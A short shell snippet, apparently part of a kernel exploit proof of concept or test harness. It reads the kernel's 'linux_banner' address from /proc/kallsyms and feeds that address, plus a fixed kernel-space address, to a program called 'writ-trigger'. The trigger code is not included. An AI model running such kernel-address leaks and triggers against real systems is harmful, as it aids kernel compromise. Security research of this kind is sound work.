# The kernel's own version, as a text in its memory.
banner=$(awk '$3 == "linux_banner" { print $1; exit }' /proc/kallsyms)
[ -n "$banner" ] && [ "$banner" != 0000000000000000 ] || echo "no address"
./writ-trigger hand-over "$banner"
./writ-trigger hand-over fffffe0000000000
cd /tmp
